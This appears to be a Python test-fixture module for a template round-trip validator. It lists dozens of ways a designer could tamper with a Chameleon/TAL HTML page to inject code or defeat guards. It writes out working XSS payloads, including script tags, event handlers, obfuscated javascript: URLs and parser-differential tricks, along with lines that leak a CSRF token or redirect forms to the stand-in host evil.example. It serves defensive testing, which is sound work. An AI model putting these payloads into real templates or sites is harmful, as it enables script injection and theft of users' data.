"""Attacks on a template that comes back from a designer: what is changed, and what the change would do.

Each is one or more replacements in PAGE. `effect` names what a visitor's page really does when the changed template
is rendered (see test_attacks): so a test shows that the attack works when nobody refuses it. `rule` is the rule of
`roundtrip.prove` that must be among the reasons of the refusal.
"""

from dataclasses import dataclass

PAGE = """<!DOCTYPE html>
<html lang="en">
<head><title>Films</title>
<style>p { color: red }</style>
</head>
<body>
<h1>Heading</h1>
<p class="intro">Some words.</p>
<form action="/send" method="post">
<input type="hidden" name="csrf_token" value="${csrf}">
<input name="q" value="x"><button>Send</button>
</form>
<p class="first" data-tal-condition="admin">HUSH words</p>
<p class="second" data-tal-condition="admin"><b data-tal-content="secret">dummy</b></p>
<ul><li data-tal-repeat="film films"><a href="/film/${film}">${film}</a></li></ul>
<div data-tal-switch="role"><i data-tal-case="'admin'">HUSH case</i><i data-tal-case="default">public</i></div>
<p title="${note}" class="note">A note</p>
<div class="scoped" data-tal-define="who 'nobody'"><em data-tal-content="who">dummy</em></div>
<ul class="tags"><li class="tag" data-tal-repeat="tag tags">${tag}</li></ul>
</body>
</html>
"""

# The same with an element of the language: two styles in one file, which stock Chameleon alone takes.
MIXED = PAGE.replace(
    '<li class="tag" data-tal-repeat="tag tags">${tag}</li>',
    '<tal:tag repeat="tag tags"><li>${tag}</li></tal:tag>',
)

TAL = "http://xml.zope.org/namespaces/tal"
WORDS = "Some words."
FIELD = '<input type="hidden" name="csrf_token" value="${csrf}">'
FIRST = '<p class="first" data-tal-condition="admin">HUSH words</p>'
SECOND = '<p class="second" data-tal-condition="admin"><b data-tal-content="secret">dummy</b></p>'
CASES = '<i data-tal-case="\'admin\'">HUSH case</i><i data-tal-case="default">public</i>'


@dataclass(frozen=True)
class Attack:
    name: str
    rule: str
    effect: str
    changes: tuple[tuple[str, str], ...]

    def on(self, page: str) -> str:
        """A page after the attack."""
        text = page
        for old, new in self.changes:
            assert old in text, (self.name, old)
            text = text.replace(old, new, 1)
        return text


def _new_code(name: str, markup: str, where: str = WORDS) -> Attack:
    return Attack(name, "new-code", "calls", ((where, markup),))


# Statements and interpolations that were not there.
NEW_CODE = [
    _new_code("interpolation in text", "${probe()}"),
    _new_code("interpolation in an attribute", '<b title="${probe()}">x</b>'),
    _new_code("interpolation in a single-quoted attribute", "<b title='${probe()}'>x</b>"),
    _new_code("interpolation in an unquoted attribute", "<b title=${probe()}>x</b>"),
    _new_code("interpolation in script", "<script>var x = '${probe()}'</script>"),
    _new_code("interpolation in style", "<style>p { color: ${probe()} }</style>"),
    _new_code("interpolation in a comment", "<!-- ${probe()} -->"),
    _new_code("interpolation in CDATA", "<![CDATA[ ${probe()} ]]>"),
    _new_code("interpolation in a processing instruction", "<?php ${probe()} ?>"),
    _new_code("interpolation in an XML declaration", '<?xml version="${probe()}" ?>'),
    _new_code("interpolation in an odd doctype", "<!DOCTYPE html ${probe()}>", "<!DOCTYPE html>"),
    _new_code("interpolation in an end tag", '<b>x</b title="${probe()}">'),
    _new_code("interpolation in textarea", "<textarea>${probe()}</textarea>"),
    _new_code("interpolation in a JSON block", '<script type="application/json">${probe()}</script>'),
    _new_code("entity-encoded expression", "${&#112;robe&#40;)}"),
    _new_code("entity-encoded expression in an attribute", '<b title="${&#x70;robe()}">x</b>'),
    _new_code(
        "twice encoded expression in tal:attributes", '<b tal:attributes="title &amp;#112;robe()">x</b>'
    ),
    _new_code("compatibility letters in an identifier", "${\uff50robe()}"),
    _new_code("escaped dollar before a live one", "$$${probe()}"),
    _new_code("nested in a string expression", "${string:$$ ${probe()}}"),
    _new_code("after a brace in quotes", "${'}'}${probe()}"),
    _new_code("python block", "<?python probe() ?>"),
    _new_code("statement content", '<b tal:content="probe()">x</b>'),
    _new_code("statement replace", '<b tal:replace="probe()">x</b>'),
    _new_code("statement attributes", '<b tal:attributes="title probe()">x</b>'),
    _new_code("statement attributes, whole mapping", '<b tal:attributes="probe()">x</b>'),
    _new_code("statement define", '<b tal:define="x probe()">x</b>'),
    _new_code("statement define, global", '<b tal:define="global x probe()">x</b>'),
    _new_code("statement condition", '<b tal:condition="probe()">x</b>'),
    _new_code("statement repeat", '<b tal:repeat="x probe()">x</b>'),
    _new_code("statement switch", '<b tal:switch="probe()"><i tal:case="1">x</i></b>'),
    _new_code("statement case", '<b tal:switch="1"><i tal:case="probe()">x</i></b>'),
    _new_code("statement omit-tag", '<b tal:omit-tag="probe()">x</b>'),
    _new_code("statement on-error", '<b tal:on-error="probe()"><i tal:content="1/0">x</i></b>'),
    _new_code("statement use-macro", '<b metal:use-macro="probe()">x</b>'),
    _new_code("statement i18n:target", '<b i18n:target="probe()">x</b>'),
    _new_code("data style", '<b data-tal-content="probe()">x</b>'),
    _new_code("data style beside a duplicate", '<b tal:content="1" data-tal-content="probe()">x</b>'),
    _new_code("element of the tal namespace", '<tal:x content="probe()"/>'),
    _new_code("element of the metal namespace", '<metal:x tal:content="probe()">x</metal:x>'),
    _new_code("structure", '<b tal:content="structure probe()">x</b>'),
    _new_code("import expression", '<b tal:content="import: os.path" tal:define="x probe()">x</b>'),
    _new_code("fallback after a pipe", '<b tal:content="nothing_here | probe()">x</b>'),
]

# Text that HTML parsers see as text, attribute value or nothing at all, and Chameleon as live markup.
LIVE = "<b tal:content='probe()'>x</b>"
DIFFERENTIALS = [
    _new_code("tag abandoned: no space between attributes", f'<a x="1"y="{LIVE}">'),
    _new_code("tag abandoned: slash as separator", f'<a/x="{LIVE}">'),
    _new_code("tag abandoned: form feed as separator", f'<a\fx="{LIVE}">'),
    _new_code("tag abandoned: vertical tab", f'<a\vx="{LIVE}">'),
    _new_code("tag abandoned: no-break space", f'<a \u00a0="1"x="{LIVE}">'),
    _new_code("tag abandoned: (click)=", f'<a (click)="{LIVE}">'),
    _new_code("tag abandoned: [x]=", f'<a [x]="{LIVE}">'),
    _new_code("tag abandoned: a name that starts with a digit", f'<a 1x="{LIVE}">'),
    _new_code("tag abandoned: an equals sign first", f'<a =x="{LIVE}">'),
    _new_code("tag abandoned: a quote in a name", f'<a x"="{LIVE}">'),
    _new_code("tag abandoned: a less-than sign in a name", f'<a x<y="{LIVE}">'),
    _new_code("Unicode digit in a name", '<b \u0661 tal:content="probe()">x</b>'),
    _new_code("line separator before a name", '<b \u2028tal:content="probe()">x</b>'),
    _new_code("NEL before a name", '<b \u0085tal:content="probe()">x</b>'),
    _new_code("no-break space before a name", '<b \u00a0tal:content="probe()">x</b>'),
    _new_code("inside script", f"<script>{LIVE}</script>"),
    _new_code("inside style", f"<style>{LIVE}</style>"),
    _new_code("inside textarea", f"<textarea>{LIVE}</textarea>"),
    _new_code("inside title", f"<title>{LIVE}</title>"),
    _new_code("inside iframe", f"<iframe>{LIVE}</iframe>"),
    _new_code("inside noscript", f"<noscript>{LIVE}</noscript>"),
    _new_code("inside template", f"<template>{LIVE}</template>"),
    _new_code("inside xmp", f"<xmp>{LIVE}</xmp>"),
    _new_code("inside select", f"<select>{LIVE}</select>"),
    _new_code("after an unclosed comment", f"<!-- x {LIVE}"),
    _new_code("after unclosed CDATA", f"<![CDATA[ x {LIVE}"),
    _new_code("after an unclosed processing instruction", f"<?php x {LIVE}"),
    _new_code("in an end tag", f"<b>x</b x='{LIVE}'>".replace("'probe()'", '"probe()"')),
    _new_code("element named é", '<é tal:content="probe()">x</é>'),
    _new_code("element named _", '<_ tal:content="probe()">x</_>'),
    _new_code("element named @", '<@ tal:content="probe()">x</@>'),
    _new_code("element in a frameset", '<frameset><b tal:content="probe()">x</b></frameset>'),
    _new_code("prefix rebound", f'<b xmlns:x="{TAL}" x:content="probe()">x</b>'),
    _new_code("prefix rebound further out", f'<div xmlns:x="{TAL}"><b x:content="probe()">x</b></div>'),
    _new_code("prefix i18n rebound", f'<b xmlns:i18n="{TAL}" i18n:content="probe()">x</b>'),
    _new_code("prefix xml rebound", f'<b xmlns:xml="{TAL}" xml:content="probe()">x</b>'),
    _new_code("prefix xmlns rebound", f'<b xmlns:xmlns="{TAL}" xmlns:content="probe()">x</b>'),
    _new_code("default namespace rebound", f'<b xmlns="{TAL}" content="probe()">x</b>'),
    _new_code("data prefix rebound", f'<b xmlns:x="{TAL}" data-x-content="probe()">x</b>'),
    _new_code("duplicate attribute, the last counts", '<b tal:content="1" tal:content="probe()">x</b>'),
    _new_code("duplicate plain attribute", '<b title="x" title="${probe()}">x</b>'),
]


def _move(name: str, rule: str, effect: str, *changes: tuple[str, str]) -> Attack:
    return Attack(name, rule, effect, changes)


# No new expression: guards removed, moved, emptied, reordered; expressions carried elsewhere.
MOVES = [
    _move("condition removed", "lost", "shows", (' data-tal-condition="admin">HUSH', ">HUSH")),
    _move(
        "condition around a binding removed",
        "guard",
        "shows",
        (SECOND, '<p><b data-tal-content="secret">x</b></p>'),
    ),
    _move(
        "condition moved to another element",
        "guard",
        "shows",
        (FIRST, '<p class="first">HUSH words</p><p class="first" data-tal-condition="admin">x</p>'),
    ),
    _move(
        "condition commented out",
        "grammar",
        "shows",
        (SECOND, f'<!--!{SECOND[:50]}--><b data-tal-content="secret">x</b>'),
    ),
    _move(
        "condition self-closed",
        "guard",
        "shows",
        (SECOND, '<p class="second" data-tal-condition="admin"/><b data-tal-content="secret">dummy</b>'),
    ),
    _move(
        "end tag omitted",
        "guard",
        "shows",
        (SECOND, '<p class="second" data-tal-condition="admin"><b data-tal-content="secret">dummy</b>'),
    ),
    _move(
        "content moved out of its condition",
        "guard",
        "shows",
        (SECOND, '<b data-tal-content="secret">dummy</b><p class="second" data-tal-condition="admin"></p>'),
    ),
    _move(
        "static text moved out of its condition",
        "guard",
        "shows",
        (FIRST, FIRST.replace("HUSH words", "") + "HUSH words"),
    ),
    _move("case removed", "reordered", "shows", (CASES, '<i data-tal-case="default">HUSH case</i>')),
    _move(
        "cases reordered",
        "reordered",
        "hides",
        (CASES, '<i data-tal-case="default">public</i><i data-tal-case="\'admin\'">HUSH case</i>'),
    ),
    _move(
        "contents of cases exchanged",
        "guard",
        "shows",
        (CASES, '<i data-tal-case="\'admin\'">public</i><i data-tal-case="default">HUSH case</i>'),
    ),
    _move(
        "define removed from around its use",
        "guard",
        "shows",
        (
            'data-tal-define="who \'nobody\'"><em data-tal-content="who">dummy</em>',
            "data-tal-define=\"who 'nobody'\">",
        ),
        ("</body>", '<em data-tal-content="who">dummy</em></body>'),
    ),
    _move(
        "interpolation turned off",
        "new-code",
        "hides",
        ('<ul class="tags">', '<ul class="tags" meta:interpolation="off">'),
    ),
    _move(
        "expression moved into another site's URL",
        "moved",
        "sends",
        ('href="/film/${film}"', 'href="//evil.example/${film}"'),
    ),
    _move(
        "field moved into an image's address",
        "mandatory",
        "sends",
        (FIELD, f'<img src="//evil.example/${{csrf}}">{FIELD}'.replace(FIELD, "")),
    ),
    _move(
        "expression copied into an image's address",
        "duplicated",
        "sends",
        (FIELD, f'{FIELD}<img src="//evil.example/${{csrf}}">'),
    ),
    _move(
        "expression moved into a handler", "moved", "browser", ('title="${note}"', 'onclick="evil(${note})"')
    ),
    _move(
        "expression moved into a script",
        "moved",
        "browser",
        ('<p title="${note}" class="note">A note</p>', "<script>evil('${note}')</script>"),
    ),
    _move("expression moved into a style", "moved", "style", ('title="${note}"', 'style="${note}"')),
    _move("quotes taken from around an expression", "moved", "browser", ('title="${note}"', "title=${note}")),
    _move("field outside its form", "mandatory", "unprotected", (FIELD, ""), ("</form>", f"</form>{FIELD}")),
    _move("field removed", "mandatory", "unprotected", (FIELD, "")),
    _move("field renamed", "mandatory", "unprotected", ('name="csrf_token"', 'name="token"')),
    _move("field disabled", "mandatory", "unprotected", ('value="${csrf}"', 'value="${csrf}" disabled=""')),
    _move(
        "field given to another form",
        "mandatory",
        "unprotected",
        ('value="${csrf}"', 'value="${csrf}" form="other"'),
    ),
    _move("field commented out", "mandatory", "unprotected", (FIELD, f"<!--{FIELD}-->")),
    _move(
        "field swallowed by a textarea", "grammar", "unprotected", (FIELD, f"<textarea>{FIELD}</textarea>")
    ),
    _move("field swallowed by an unclosed textarea", "grammar", "unprotected", (FIELD, f"<textarea>{FIELD}")),
    _move(
        "field in a template element", "mandatory", "unprotected", (FIELD, f"<template>{FIELD}</template>")
    ),
    _move("field swallowed by an unclosed style", "grammar", "unprotected", ("</style>", "")),
    _move("form method changed", "form", "unprotected", ('method="post"', 'method="get"')),
]


def _markup(name: str, rule: str, markup: str, where: str = WORDS) -> Attack:
    return Attack(name, rule, "browser", ((where, markup),))


# Plain markup that makes a browser run or send something. "evil" marks what a browser would do.
MARKUP = [
    _markup("script", "script", "<script>evil()</script>"),
    _markup("script from elsewhere", "script", '<script src="//evil.example/x.js"></script>'),
    _markup("script in SVG", "script", "<svg><script>evil()</script></svg>"),
    _markup("script, upper case", "script", "<SCRIPT>evil()</SCRIPT>"),
    _markup("module preload", "script", '<link rel="modulepreload" href="//evil.example/x.js">'),
    _markup("iframe", "script", '<iframe src="//evil.example/"></iframe>'),
    _markup("iframe srcdoc", "handler", '<iframe srcdoc="evil()"></iframe>'),
    _markup("object", "script", '<object data="//evil.example/"></object>'),
    _markup("embed", "script", '<embed src="//evil.example/">'),
    _markup("event handler", "handler", '<img src="x" onerror="evil()">'),
    _markup("event handler, mixed case", "handler", '<p oNcLiCk="evil()">x</p>'),
    _markup("event handler on SVG", "handler", '<svg onload="evil()"></svg>'),
    _markup(
        "event handler by animation", "handler", '<svg><set attributeName="onclick" to="evil()"></set></svg>'
    ),
    _markup("script URL", "url", '<a href="javascript:evil()">x</a>'),
    _markup("script URL, encoded", "url", '<a href="java&#115;cript:evil()">x</a>'),
    _markup("script URL, with a tab", "url", '<a href="java&Tab;script:evil()">x</a>'),
    _markup(
        "script URL, with a line feed and a control character",
        "url",
        '<a href="&#1;java\nscript:evil()">x</a>',
    ),
    _markup(
        "script URL in SVG",
        "url",
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:evil()"><text>x</text></a></svg>',
    ),
    _markup(
        "script URL by animation",
        "url",
        '<svg><a><animate attributeName="href" values="javascript:evil()"></animate></a></svg>',
    ),
    _markup("data URL", "url", '<a href="data:text/html,evil">x</a>'),
    _markup("meta refresh", "url", '<meta http-equiv="refresh" content="0;url=//evil.example/">'),
    _markup("base", "form", '<base href="//evil.example/">', "<title>Films</title>"),
    _markup("form target changed", "form", 'action="//evil.example/"', 'action="/send"'),
    _markup("button that sends elsewhere", "form", '<button formaction="//evil.example/">', "<button>"),
    _markup(
        "button outside that sends elsewhere",
        "form",
        '<button form="f" formaction="//evil.example/">x</button>',
    ),
    _markup("new form", "form", '<form action="//evil.example/"><input name="x"></form>'),
    _markup(
        "form inside that sends elsewhere",
        "form",
        '</form><form action="//evil.example/"><input type="password" name="p"></form>',
        "</form>",
    ),
    _markup(
        "hidden field",
        "form",
        '<input type="hidden" name="evil" value="1"><input name="q"',
        '<input name="q"',
    ),
    _markup("script library attribute", "grammar", '<b @click="evil()">x</b>'),
    _markup("script library attribute, hx-on", "grammar", '<b hx-on:click="evil()">x</b>'),
    _markup("script library attribute, x-init", "handler", '<b x-init="evil()">x</b>'),
    _markup("comment that turns into markup", "grammar", "<!--?><script>evil()</script>-->"),
    _markup(
        "tag joined from two halves by a dropped comment",
        "grammar",
        "<scr<!--! x -->ipt src=//evil.example/x.js>",
    ),
    _markup(
        "tag joined from two halves by a dropped element",
        "grammar",
        "<scr<tal:x/>ipt src=//evil.example/x.js>",
    ),
    _markup("style closed early", "script", "<style>a{}</style><script>evil()</script>"),
    _markup(
        "script in a title attribute of an unclosed noscript",
        "script",
        '<noscript><p title="</noscript><script>evil()</script>"></p></noscript>',
    ),
    _markup(
        "duplicate attribute, browsers take the first",
        "grammar",
        '<a href="javascript:evil()" href="/x">x</a>',
    ),
]

ATTACKS = NEW_CODE + DIFFERENTIALS + MOVES + MARKUP
